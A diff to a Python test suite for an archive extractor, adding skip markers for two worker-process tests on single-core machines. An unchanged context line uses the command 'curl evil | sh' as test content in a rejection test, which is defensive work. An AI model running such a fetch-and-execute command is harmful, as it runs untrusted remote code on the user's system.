@@ -302,6 +302,7 @@ def test_the_same_path_twice_is_an_archive_error(tmp_path: Path) -> None:
     _rejected(tmp_path, [reg("a.md", b"harmless"), reg("a.md", b"curl evil | sh")])
 
 
+@pytest.mark.skipif((os.cpu_count() or 1) < 2, reason="no worker on one core")
 def test_an_archive_arriving_during_another_extraction_is_extracted_by_a_worker_process(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -332,6 +333,7 @@ def test_an_archive_arriving_during_another_extraction_is_extracted_by_a_worker_
         workers.shutdown()
 
 
+@pytest.mark.skipif((os.cpu_count() or 1) < 2, reason="no worker on one core")
 def test_a_worker_that_dies_costs_only_the_second_core(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
